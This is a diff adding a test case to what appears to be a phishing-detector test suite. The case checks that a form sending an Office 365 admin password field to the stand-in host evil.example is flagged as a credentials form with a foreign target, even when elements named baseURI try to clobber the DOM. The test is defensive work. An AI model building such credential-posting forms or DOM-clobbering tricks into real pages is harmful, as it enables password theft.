@@ -396,6 +396,12 @@ describe('where the form would be sent', () => {
     expect(sight).toMatchObject({ kind: 'credentials', foreignTarget });
   });
 
+  test.each(['<img name=baseURI>', '<form name=baseURI></form>'])('whatever the page calls %s', (named) => {
+    const field = `<label>Office 365 Admin Password ${PASSWORD}</label>`;
+    const { sight } = look(`${named}<form action="https://evil.example/take">${field}${SUBMIT}</form>`);
+    expect(sight).toMatchObject({ kind: 'credentials', foreignTarget: 'https://evil.example' });
+  });
+
   test('by the form around what the field belongs to', () => {
     document.body.setHTMLUnsafe(`<form action="https://evil.example/take"><x-field><template shadowrootmode="open">
       <label>Office 365 Admin Password ${PASSWORD}</label></template></x-field>${SUBMIT}</form>`);
